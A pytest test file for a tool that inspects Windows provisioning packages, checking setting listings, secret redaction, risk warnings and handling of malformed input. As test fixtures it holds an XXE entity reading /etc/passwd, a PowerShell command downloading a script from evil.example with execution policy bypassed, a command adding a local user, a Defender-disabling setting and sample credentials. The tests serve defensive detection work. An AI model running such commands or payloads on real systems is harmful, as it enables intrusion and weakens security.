"""inspect on real Microsoft-built packages and on packages broken on purpose."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from lxml import etree

from test_inspect_support import (customizations_xml, make_package, policies, run_cli, run_json, wimlib_extract,
                                  write_package)

REAL = ("icd-cli-oobe.ppkg", "wcd-gui-commands-msi.ppkg", "wcd-itadmin-rank52.ppkg")


def _known_secrets(tree: Path) -> set[str]:
    """Plain-text secrets of a real fixture, found by reading its own customizations.xml."""
    root = etree.parse(str(tree / "Multivariant/0/customizations.xml")).getroot()
    found = set()
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        name = etree.QName(el).localname
        if (name.endswith("Password") or name.endswith("ProductKey")) and (el.text or "").strip():
            found.add(el.text.strip())
    return found


def _leaf_count(tree: Path) -> int:
    root = etree.parse(str(tree / "Multivariant/0/customizations.xml")).getroot()
    common = next(el for el in root.iter() if isinstance(el.tag, str) and etree.QName(el).localname == "Common")
    return sum(1 for el in common.iter() if isinstance(el.tag, str) and el is not common and len(el) == 0)


@pytest.mark.parametrize("name", REAL)
def test_real_package_lists_every_setting_and_file(real_ppkg, tmp_path, name):
    pkg = real_ppkg / name
    tree = wimlib_extract(pkg, tmp_path / "x")
    doc = run_json("inspect", pkg)

    # every ConfigurationSet of RunTime.xml and User_RunTime.xml, with every parm of its provxml
    prov = tree / "Multivariant/0/Prov"
    expected_sets, expected_parms = 0, 0
    for source in ("RunTime.xml", "User_RunTime.xml"):
        if not (prov / source).exists():
            continue
        for cs in etree.parse(str(prov / source)).getroot().iter("ConfigurationSet"):
            expected_sets += 1
            rel = cs.get("Data").replace("$(_prov)\\", "").replace("\\", "/")
            expected_parms += len(etree.parse(str(prov / rel)).getroot().findall(".//parm"))
    assert expected_sets > 0
    assert len(doc["configuration_sets"]) == expected_sets
    assert sum(len(c["parms"]) for c in doc["configuration_sets"]) == expected_parms
    assert all(c["problem"] is None for c in doc["configuration_sets"])

    # every setting of the package's source, and every file with its real size and SHA-256
    assert len(doc["settings"]) == _leaf_count(tree)
    on_disk = {str(p.relative_to(tree)): p for p in tree.rglob("*") if p.is_file()}
    assert {f["path"] for f in doc["files"]} == set(on_disk)
    for f in doc["files"]:
        data = on_disk[f["path"]].read_bytes()
        assert f["size"] == len(data)
        assert f["sha256"] == hashlib.sha256(data).hexdigest()

    # every asset DataAsset.xml names
    assets = []
    if (tree / "DataAsset/DataAsset.xml").exists():
        for m in etree.parse(str(tree / "DataAsset/DataAsset.xml")).getroot().iter("Metadata"):
            if m.get("Key") != "Name":
                assets.append(m)
    assert len([f for f in doc["files"] if f["role"] == "asset"]) == len(assets)
    assert doc["problems"] == []
    assert doc["altitude"] is not None and doc["id"] and doc["name"]


@pytest.mark.parametrize("name", REAL)
def test_no_secret_without_show_secrets(real_ppkg, tmp_path, name):
    pkg = real_ppkg / name
    secrets = _known_secrets(wimlib_extract(pkg, tmp_path / "x"))
    code, text_out, _ = run_cli("inspect", pkg)
    assert code == 0
    code, json_out, _ = run_cli("inspect", pkg, "--json")
    assert code == 0
    for secret in secrets:
        assert secret not in json_out
        assert secret not in text_out
    if secrets:
        assert "<redacted>" in json_out
        shown = run_cli("inspect", pkg, "--json", "--show-secrets")[1]
        for secret in secrets:
            assert secret in shown


def test_known_fixture_secrets_are_found(real_ppkg, tmp_path):
    """The grep test above must have something to grep for."""
    found = set()
    for name in REAL:
        found |= _known_secrets(wimlib_extract(real_ppkg / name, tmp_path / name))
    assert {"Letmein#2024", "F0C0nn@135", "NRG8B-VKK3Q-CXVCJ-9G2XF-6Q84J"} <= found


def test_real_package_metadata_and_warnings(real_ppkg):
    oobe = run_json("inspect", real_ppkg / "icd-cli-oobe.ppkg")
    assert (oobe["owner_type"], oobe["rank"], oobe["altitude"]) == ("OEM", 0, 2000)
    assert oobe["builder_version"].startswith("2024.613.0.0")
    codes = {w["code"] for w in oobe["warnings"]}
    assert {"plain-text-credential", "owner-claims-oem", "command-autologon", "unsigned"} <= codes
    # the autologon password inside a reg add command line is redacted there too
    cmd = next(c for c in oobe["commands"] if c["name"] == "reg_DefaultPassword")
    assert "<redacted>" in cmd["command_line"]
    assert len(oobe["commands"]) == 6

    msi = run_json("inspect", real_ppkg / "wcd-gui-commands-msi.ppkg")
    assert [c["name"] for c in msi["commands"]] == ["cortex", "GlobalProtect"]
    assert msi["commands"][0]["command_file"] == "Cortex_XDR_9_0_0_16757_x64.msi"
    assert msi["commands"][0]["files"][0].endswith("/Cortex_XDR_9_0_0_16757_x64.msi")
    assert msi["commands"][0]["options"]["ReturnCodeRestart"] == "3010"
    assert sum(w["code"] == "embedded-executable" for w in msi["warnings"]) == 2

    it = run_json("inspect", real_ppkg / "wcd-itadmin-rank52.ppkg")
    assert (it["owner_type"], it["rank"], it["altitude"]) == ("ITAdmin", 52, 5052)
    assert it["altitude_split"]["text"] == "5052 = ITAdmin 5000 + rank 52"
    assert it["target_skus"] == "Desktop"
    assert it["signature"]["catalog"].endswith("wcd-itadmin-rank52.cat")
    assert it["signature"]["state"] == "unsigned" and it["signature"]["trusted"] is False
    user = {s["path"] for s in it["settings"] if s["scope"] == "User"}
    assert user == {"Policies/FileExplorer/AllowOptionToShowNetwork", "Policies/FileExplorer/AllowOptionToShowThisPC"}
    assert not any(w["code"].startswith("owner-claims") for w in it["warnings"])


def test_malformed_wim_gives_wim_error(tmp_path, real_ppkg):
    bad = tmp_path / "truncated.ppkg"
    bad.write_bytes((real_ppkg / "icd-cli-oobe.ppkg").read_bytes()[:3000])
    code, out, err = run_cli("inspect", bad)
    assert code == 3
    assert out == ""
    assert err.startswith("ppkgtool: error:") and len(err.strip().splitlines()) == 1
    junk = tmp_path / "junk.ppkg"
    junk.write_bytes(b"MSWIM\0\0\0" + b"\xff" * 300)
    code, _, err = run_cli("inspect", junk)
    assert code == 3 and "error" in err


def _cust(common: str, owner: str = "ITAdmin", rank: int = 1, extra: str = "") -> bytes:
    return customizations_xml(name="t", owner=owner, rank=rank, common=common, extra=extra)


def test_missing_runtime_xml_is_inspected_with_a_warning(tmp_path):
    pkg = write_package(tmp_path / "nort.ppkg", _cust(policies({"Experience/AllowCortana": "No"})),
                        drop=("Multivariant/0/Prov/RunTime.xml",))
    doc = run_json("inspect", pkg)
    assert any("RunTime.xml" in p for p in doc["problems"])
    assert any(w["code"] == "broken-part" and "RunTime.xml" in w["message"] for w in doc["warnings"])
    assert [s["path"] for s in doc["settings"]] == ["Policies/Experience/AllowCortana"]   # from customizations.xml
    assert doc["name"] == "t"


def test_provxml_that_is_not_xml_is_a_warning(tmp_path):
    cust = _cust(policies({"Experience/AllowCortana": "No", "Camera/AllowCamera": "Yes"}))
    pkg = write_package(tmp_path / "badprov.ppkg", cust,
                        replace={"Multivariant/0/Prov/RunTime/0__Policies_Experience_AllowCortana.provxml":
                                 b"this is not <xml"})
    doc = run_json("inspect", pkg)
    broken = [c for c in doc["configuration_sets"] if c["problem"]]
    assert len(broken) == 1 and "0__Policies_Experience_AllowCortana.provxml" in broken[0]["problem"]
    assert len(doc["configuration_sets"]) == 2
    ok = [c for c in doc["configuration_sets"] if not c["problem"]]
    assert ok[0]["parms"][0]["csp_path"] == "Policy/Config/Camera/AllowCamera"
    assert sum(w["code"] == "broken-part" for w in doc["warnings"]) == 1


def test_doctype_and_missing_customizations(tmp_path):
    cust = _cust(policies({"Experience/AllowCortana": "No"}))
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><WindowsCustomizations>&e;</WindowsCustomizations>'
    pkg = write_package(tmp_path / "dtd.ppkg", cust, replace={"Multivariant/0/customizations.xml": evil})
    doc = run_json("inspect", pkg)
    assert any("DOCTYPE" in p for p in doc["problems"])
    assert "root:" not in json.dumps(doc)
    # settings then come from the compiled provxml (the package's source is unusable)
    assert [s["path"] for s in doc["settings"]] == ["Policies/Experience/AllowCortana"]
    assert doc["settings"][0]["value"] == "No"     # the store label of the compiled 0

    pkg2 = write_package(tmp_path / "nocust.ppkg", cust, drop=("Multivariant/0/customizations.xml",))
    doc2 = run_json("inspect", pkg2)
    assert any("customizations.xml" in p for p in doc2["problems"])
    assert doc2["settings"][0]["origin"].endswith(".provxml")


def test_risky_package_warnings(tmp_path):
    common = (policies({"Defender/AllowRealtimeMonitoring": "0"}) +
              "<Accounts><ComputerAccount><ComputerName>PC1</ComputerName><DomainName>corp.example</DomainName>"
              "<Account>corp\\joiner</Account><Password>Join-Secret-77</Password></ComputerAccount></Accounts>"
              "<ProvisioningCommands><PrimaryContext><Command>"
              "<CommandConfig Name=\"get\"><CommandLine>powershell -ExecutionPolicy Bypass -c "
              "\"iwr https://evil.example/a.ps1 -OutFile a.ps1\"</CommandLine></CommandConfig>"
              "<CommandConfig Name=\"user\"><CommandLine>net user helpdesk Cmd-Secret-88 /add</CommandLine>"
              "</CommandConfig></Command></PrimaryContext></ProvisioningCommands>")
    pkg = write_package(tmp_path / "risky.ppkg", _cust(common, owner="Microsoft", rank=0),
                        extra_files={"DataAsset/9/0_x/run.ps1": b"Write-Host hi\r\n",
                                     "DataAsset/9/1_y/tool.bin": b"MZ\x90\x00" + b"\x00" * 60})
    code, out, err = run_cli("inspect", pkg, "--json")
    assert code == 0
    doc = json.loads(out)
    codes = [w["code"] for w in doc["warnings"]]
    for expected in ("owner-claims-microsoft", "plain-text-credential", "needs-domain-controller",
                     "command-downloads", "command-disables-security", "setting-disables-security",
                     "embedded-script", "embedded-executable"):
        assert expected in codes, expected
    assert "Join-Secret-77" not in out and "Cmd-Secret-88" not in out
    assert run_cli("inspect", pkg, "--fail-on", "high")[0] == 4
    assert run_cli("inspect", pkg, "--show-secrets", "--json")[1].count("Cmd-Secret-88") >= 1


def test_tampered_asset_is_reported(tmp_path, real_ppkg):
    tree = wimlib_extract(real_ppkg / "wcd-itadmin-rank52.ppkg", tmp_path / "x")
    png = next(tree.glob("DataAsset/2/*/wallpaper.png"))
    png.write_bytes(b"not the picture that was hashed")
    out = tmp_path / "tampered.ppkg"
    files = {str(p.relative_to(tree)): p.read_bytes() for p in tree.rglob("*") if p.is_file()}
    from ppkgtool.wim import open_wim, write_wim
    with open_wim(real_ppkg / "wcd-itadmin-rank52.ppkg") as wim:
        props = dict(wim.image(1).properties)
    keep = ("NAME", "DESCRIPTION", "NOTES", "AUTHOR", "VERSION", "ALTITUDE", "RESETCLEAR", "PACKAGEID")
    with open(out, "wb") as fh:
        write_wim(fh, files, {k: props.get(k, "") for k in keep})
    doc = run_json("inspect", out)
    assert any("wallpaper.png" in p and "SHA-256" in p for p in doc["problems"])


def test_merged_package_with_two_images(tmp_path):
    if not shutil.which("wimlib-imagex"):
        pytest.fail("wimlib-imagex (wimtools) is required")
    a = make_package(tmp_path, "first", "OEM", 3, {"Experience/AllowCortana": "No"})
    b = make_package(tmp_path, "second", "ITAdmin", 9, {"Camera/AllowCamera": "Yes"})
    da, db = wimlib_extract(a, tmp_path / "a"), wimlib_extract(b, tmp_path / "b")
    merged = tmp_path / "merged.ppkg"
    from ppkgtool.wim import open_wim
    with open_wim(b) as wim:
        pb = dict(wim.image(1).properties)
    subprocess.run(["wimlib-imagex", "capture", str(da), str(merged), "first", "--compress=XPRESS",
                    "--image-property", "ALTITUDE=2003"], check=True, capture_output=True)
    subprocess.run(["wimlib-imagex", "append", str(db), str(merged), "second",
                    "--image-property", f"ALTITUDE={pb['ALTITUDE']}",
                    "--image-property", f"PACKAGEID={pb['PACKAGEID']}"], check=True, capture_output=True)
    doc = run_json("inspect", merged)
    assert doc["image_count"] == 2 and len(doc["images"]) == 2
    assert [i["altitude"] for i in doc["images"]] == [2003, 5009]
    assert doc["images"][1]["settings"][0]["path"] == "Policies/Camera/AllowCamera"
    ranked = run_json("rank", merged, a)
    assert ranked[0]["path"] == f"{merged}#2"
    assert {r["path"] for r in ranked[1:]} == {f"{merged}#1", str(a)}
    assert all(r["tie"] for r in ranked[1:])          # image 1 and package a: OEM rank 3 both


def test_multivariant_settings_show_their_condition(tmp_path):
    extra = ("<Targets><Target Id=\"Fr\"><TargetState><Condition Name=\"Mcc\" Value=\"208\"/></TargetState></Target>"
             "</Targets><Variant><TargetRefs><TargetRef Id=\"Fr\"/></TargetRefs><Settings>"
             + policies({"Experience/AllowCortana": "Yes"}) + "</Settings></Variant>")
    pkg = write_package(tmp_path / "mv.ppkg", _cust(policies({"Experience/AllowCortana": "No"}), extra=extra))
    doc = run_json("inspect", pkg)
    assert doc["conditions"] == [{"target": "Fr", "states": [[{"name": "Mcc", "value": "208"}]]}]
    conds = sorted((s["condition"] or "", s["value"]) for s in doc["settings"])
    assert conds == [("", "No"), ("Fr (Mcc=208)", "Yes")]
    assert any(c["condition"] for c in doc["configuration_sets"])     # compiled into a ProfileSet


def test_odj_blob_carried_by_a_command(tmp_path, real_odj):
    blob = (real_odj / "windows-w2k19-provision-data.bin").read_bytes()
    common = ("<ProvisioningCommands><PrimaryContext><Command><CommandConfig Name=\"odj\">"
              "<CommandFile>C:\\odj\\blob.txt</CommandFile>"
              "<CommandLine>djoin /requestodj /loadfile blob.txt /windowspath %SystemRoot% /localos</CommandLine>"
              "</CommandConfig></Command></PrimaryContext></ProvisioningCommands>")
    pkg = write_package(tmp_path / "odj.ppkg", _cust(common), assets={"blob.txt": blob})
    doc = run_json("inspect", pkg)
    cmd = doc["commands"][0]
    assert cmd["name"] == "odj" and cmd["command_file"] == "blob.txt"
    assert cmd["odj"] is not None, doc["problems"]
    text = json.dumps(cmd["odj"])
    assert "w2k19dom" in text.lower()
    assert any(w["code"] == "command-offline-domain-join" for w in doc["warnings"])


def test_root_certificate_is_described(tmp_path):
    import datetime
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Test Root CA")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(7).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=30))
            .sign(key, hashes.SHA256()))
    der = cert.public_bytes(serialization.Encoding.DER)
    common = ("<Certificates><RootCertificates><RootCertificate CertificateName=\"TestRoot\">"
              "<CertificatePath>C:\\certs\\root.cer</CertificatePath></RootCertificate></RootCertificates>"
              "</Certificates>")
    pkg = write_package(tmp_path / "cert.ppkg", _cust(common), assets={"root.cer": der})
    doc = run_json("inspect", pkg)
    thumb = hashlib.sha1(der).hexdigest().upper()
    assert any(c["thumbprint"] == thumb and "Test Root CA" in (c["subject"] or "") for c in doc["certificates"]), \
        doc["certificates"]
    assert any(w["code"] == "setting-root-certificate" for w in doc["warnings"])


def test_text_output_is_plain_when_not_a_terminal(real_ppkg):
    code, out, err = run_cli("inspect", real_ppkg / "wcd-gui-commands-msi.ppkg")
    assert code == 0 and err == ""
    assert "owner type   OEM" in out
    assert re.search(r"cortex\tmsiexec /i", out)


def test_part_parsers_fail_only_with_format_errors():
    """Bounded fuzz: arbitrary bytes into every XML part parser give a FormatError or a result."""
    from hypothesis import given, settings, strategies as st

    from ppkgtool.analysis import model
    from ppkgtool.analysis.eventlog import events_from_xml
    from ppkgtool.errors import FormatError

    parsers = (model.parse_customizations, model.parse_master_datastore, model.parse_data_asset,
               lambda d, w: model.parse_provxml(d, w), model.parse_configuration_source, events_from_xml)
    prefix = st.sampled_from([b"", b"<wap-provisioningdoc>", b"<ConfigurationSource>", b"<WindowsCustomizations>",
                              b"<Elements>", b"<Event>", b"\xef\xbb\xbf<?xml version='1.0'?>"])

    @settings(max_examples=150, deadline=2000)
    @given(prefix, st.binary(max_size=300))
    def run(head, body):
        for parse in parsers:
            try:
                parse(head + body, "fuzz")
            except FormatError:
                pass

    run()


def _pol(values) -> bytes:
    from ppkgtool.regpol import build_registry_pol
    return build_registry_pol(values)


def test_odj_blob_policy_provider_values_are_shown(tmp_path):
    """An ODJ blob whose POLICY_PROVIDER part carries Registry.pol values (odj compose), built with
    --odj: inspect lists those values under "policies" with the carrying command."""
    import uuid

    from ppkgtool.odj import DomainFacts, MachineFacts, compose_provision_data, encode_provision_data
    from ppkgtool.odj.models import PolicyPart
    from ppkgtool.regpol import PolicyValue

    values = [PolicyValue.dword(r"Software\Policies\Microsoft\Windows\System", "EnableSmartScreen", 1),
              PolicyValue.multi_string(r"Software\Policies\Corp", "Servers", ["a.corp", "b.corp"]),
              PolicyValue.qword(r"Software\Policies\Corp", "Big", 2 ** 40)]
    part = PolicyPart.from_registry_pol([(r"\\corp.test\SysVol\Policies\{GPO}\Machine\Registry.pol", _pol(values))])
    facts = DomainFacts(dns_domain="corp.test", netbios_name="CORP", dns_forest="corp.test",
                        domain_guid=uuid.UUID("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"),
                        domain_sid="S-1-5-21-1-2-3", dc_name="dc1.corp.test", dc_address="127.0.0.1")
    pd = compose_provision_data(facts, MachineFacts("PC77", "Machine-Pw-77", rid=1777), policy_part=part)
    blob = tmp_path / "pc77.bin"
    blob.write_bytes(encode_provision_data(pd))
    out = tmp_path / "odjpol.ppkg"
    code, _, err = run_cli("build", Path(__file__).resolve().parent.parent / "customizations" / "customizations.xml",
                           "-o", out, "--var", "SITE=x", "--odj", blob)
    assert code == 0, err
    doc = run_json("inspect", out)
    cmd = next(c for c in doc["commands"] if c["odj"])
    assert cmd["odj"]["machine_name"] == "PC77" and cmd["odj"]["domain"] == "corp.test"
    pols = [p for p in doc["policies"] if p["kind"] == "odj-policy-provider"]
    assert len(pols) == 1
    assert pols[0]["source"] == cmd["odj"]["file"] and pols[0]["hive"] == "HKEY_LOCAL_MACHINE"
    assert pols[0]["list_source"].endswith(r"Machine\Registry.pol") and "OfflineDomainJoin_PC77" in pols[0]["carrier"]
    assert [(v["key"], v["value_name"], v["type_name"], v["value"]) for v in pols[0]["values"]] == [
        (r"Software\Policies\Microsoft\Windows\System", "EnableSmartScreen", "REG_DWORD", 1),
        (r"Software\Policies\Corp", "Servers", "REG_MULTI_SZ", ["a.corp", "b.corp"]),
        (r"Software\Policies\Corp", "Big", "REG_QWORD", 2 ** 40)]
    assert "Machine-Pw-77" not in json.dumps(doc)
    code, text, _ = run_cli("inspect", out)
    assert "ODJ POLICY_PROVIDER part" in text and "a.corp; b.corp" in text


def test_registry_policy_secrets_and_broken_pol(tmp_path):
    """A DefaultPassword in a Registry.pol is a plain-text credential: redacted and warned about;
    a .pol that does not parse is a problem naming the file and offset, not a crash."""
    from ppkgtool.regpol import PolicyValue

    winlogon = r"Software\Microsoft\Windows NT\CurrentVersion\Winlogon"
    pol = _pol([PolicyValue.string(winlogon, "DefaultPassword", "Pol-Secret-42"),
                PolicyValue.string(winlogon, "AutoAdminLogon", "1"),
                PolicyValue(winlogon, "**del.DefaultDomainName", 1, b"\x00\x00")])
    common = ("<ProvisioningCommands><PrimaryContext><Command><CommandConfig Name=\"pol\">"
              "<CommandFile>C:\\p\\apply.cmd</CommandFile><CommandLine>cmd /c apply.cmd</CommandLine>"
              "</CommandConfig></Command></PrimaryContext></ProvisioningCommands>")
    pkg = write_package(tmp_path / "pol.ppkg", _cust(common), assets={"apply.cmd": b"@echo off\r\n"},
                        extra_files={"DataAsset/7/0_x/Registry.pol": pol,
                                     "DataAsset/7/1_y/broken.pol": b"PReg\x01\x00\x00\x00[\x00"})
    code, out, _ = run_cli("inspect", pkg, "--json")
    assert code == 0 and "Pol-Secret-42" not in out
    doc = json.loads(out)
    good = next(p for p in doc["policies"] if p["source"].endswith("Registry.pol"))
    pw = next(v for v in good["values"] if v["value_name"] == "DefaultPassword")
    assert pw["value"] == "<redacted>" and pw["data"] == "<redacted>" and pw["secret"] == "password"
    assert next(v for v in good["values"] if v["value_name"] == "AutoAdminLogon")["value"] == "1"
    assert next(v for v in good["values"] if v["value_name"].startswith("**del."))["secret"] is None
    assert any(w["code"] == "plain-text-credential" and w["where"] == good["source"] for w in doc["warnings"])
    broken = next(p for p in doc["policies"] if p["source"].endswith("broken.pol"))
    assert broken["values"] == [] and "offset" in broken["problem"]
    assert any("broken.pol" in p for p in doc["problems"])
    assert "Pol-Secret-42" not in run_cli("inspect", pkg)[1]
    shown = run_json("inspect", pkg, "--show-secrets")
    good = next(p for p in shown["policies"] if p["source"].endswith("Registry.pol"))
    assert next(v for v in good["values"] if v["value_name"] == "DefaultPassword")["value"] == "Pol-Secret-42"


def test_keyed_paths_are_the_builders_form(tmp_path):
    """inspect, export and the builder write keyed items one way: Name[@Attr=value]; repeated
    unkeyed items (CommandConfig, whose Name is a display label) by 0-based position."""
    from ppkgtool.package.compiler import compile_bytes
    from ppkgtool.package.export import settings_from_package

    common = ("<Accounts><Users><User UserName=\"admin\" Name=\"admin\"><Password>Pw-Key-1</Password>"
              "<UserGroup>Administrators</UserGroup></User></Users></Accounts>"
              "<ProvisioningCommands><PrimaryContext><Command>"
              "<CommandConfig Name=\"first\"><CommandLine>cmd /c echo 1</CommandLine></CommandConfig>"
              "<CommandConfig Name=\"second\"><CommandLine>cmd /c echo 2</CommandLine></CommandConfig>"
              "</Command></PrimaryContext></ProvisioningCommands>")
    cust = _cust(common)
    pkg = write_package(tmp_path / "keys.ppkg", cust)
    doc = run_json("inspect", pkg)
    inspected = [s["path"] for s in doc["settings"]]
    built = [s.instance for s in compile_bytes(cust, source_name="k.xml").settings]
    exported = [s.instance for s in settings_from_package({"Multivariant/0/customizations.xml": cust})]
    assert inspected == built == exported == [
        "Accounts/Users/User[@UserName=admin]/Password", "Accounts/Users/User[@UserName=admin]/UserGroup",
        "ProvisioningCommands/PrimaryContext/Command/CommandConfig/CommandLine",
        "ProvisioningCommands/PrimaryContext/Command/CommandConfig[1]/CommandLine"]
    assert [c["name"] for c in doc["commands"]] == ["first", "second"]
    assert [c["command_line"] for c in doc["commands"]] == ["cmd /c echo 1", "cmd /c echo 2"]
    # without compiled parms the commands still come from customizations.xml, named and in order
    bare = write_package(tmp_path / "bare.ppkg", cust, drop=tuple(
        f for f in compile_bytes(cust, source_name="k.xml").files if "ProvisioningCommands" in f))
    assert [(c["index"], c["name"], c["command_line"]) for c in run_json("inspect", bare)["commands"]] == [
        (0, "first", "cmd /c echo 1"), (1, "second", "cmd /c echo 2")]


def test_customizations_problems_are_listed_not_fatal(tmp_path):
    """inspect reads customizations.xml with the builder's reader in lenient mode: what the builder
    would refuse (Rank 150, an unknown element) is listed as a problem, and the settings still show."""
    cust = _cust(policies({"Experience/AllowCortana": "No"}))
    odd = cust.replace(b"<Rank>1</Rank>", b"<Rank>150</Rank>").replace(b"<Common>", b"<Bogus/><Common>")
    pkg = write_package(tmp_path / "odd.ppkg", cust, replace={"Multivariant/0/customizations.xml": odd})
    doc = run_json("inspect", pkg)
    assert [s["path"] for s in doc["settings"]] == ["Policies/Experience/AllowCortana"]
    assert doc["declared"]["rank"] == "150" and doc["declared"]["rank_valid"] is None
    assert any("PackageConfig/Rank" in p for p in doc["problems"])
    assert any("unexpected <Bogus>" in p for p in doc["problems"])
    assert doc["altitude"] == 5001          # the image's ALTITUDE still decides


def test_diff_compares_registry_policy_values(tmp_path):
    from ppkgtool.regpol import PolicyValue

    def pkg(name, values):
        return write_package(tmp_path / f"{name}.ppkg", _cust(policies({"Experience/AllowCortana": "No"})),
                             extra_files={"DataAsset/7/0_x/Registry.pol": _pol(values)})
    a = pkg("a", [PolicyValue.dword(r"Software\P", "Keep", 1), PolicyValue.dword(r"Software\P", "Old", 2),
                  PolicyValue.string(r"Software\P", "Text", "one")])
    b = pkg("b", [PolicyValue.dword(r"Software\P", "Keep", 1), PolicyValue.string(r"Software\P", "Text", "two"),
                  PolicyValue.qword(r"Software\P", "New", 3)])
    doc = run_json("diff", a, b)
    pol = doc["policies"]
    assert [(x["value_name"], x["b"]) for x in pol["added"]] == [("New", {"type": "REG_QWORD", "value": 3})]
    assert [(x["value_name"], x["a"]) for x in pol["removed"]] == [("Old", {"type": "REG_DWORD", "value": 2})]
    assert [(x["value_name"], x["a"]["value"], x["b"]["value"]) for x in pol["changed"]] == [("Text", "one", "two")]
    assert doc["identical"] is False
    assert run_json("diff", a, a)["policies"] == {"added": [], "removed": [], "changed": []}
